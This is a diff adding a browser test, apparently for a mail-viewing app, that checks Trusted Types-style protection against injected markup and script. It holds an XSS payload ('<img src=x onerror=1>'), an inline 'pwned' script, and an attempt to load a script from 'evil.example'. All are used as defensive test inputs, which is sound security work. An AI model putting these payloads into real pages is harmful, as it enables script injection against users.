@@ -236,3 +236,21 @@ def test_mails_that_are_hardly_text(at: Desk, text: str, shown: str) -> None:
         at.outlook.clear_faults()
         at.outlook.alter(mail, None)
         at.show(START)
+
+
+def test_no_text_becomes_markup_or_script_in_the_page(one_pane: Desk) -> None:
+    one_pane.allowed.append("TrustedScriptURL")
+    made = one_pane.pane.evaluate(
+        """() => {
+          const box = document.createElement("div");
+          box.innerHTML = "<img src=x onerror=1><b>text</b>";
+          const script = document.createElement("script");
+          script.text = "window.__pwned = 1";
+          document.body.append(script);
+          let refused = false;
+          try { script.src = "https://evil.example/x.js"; } catch { refused = true; }
+          script.remove();
+          return [box.children.length, box.textContent, script.text, refused];
+        }"""
+    )
+    assert made == [0, "<img src=x onerror=1><b>text</b>", "", True]
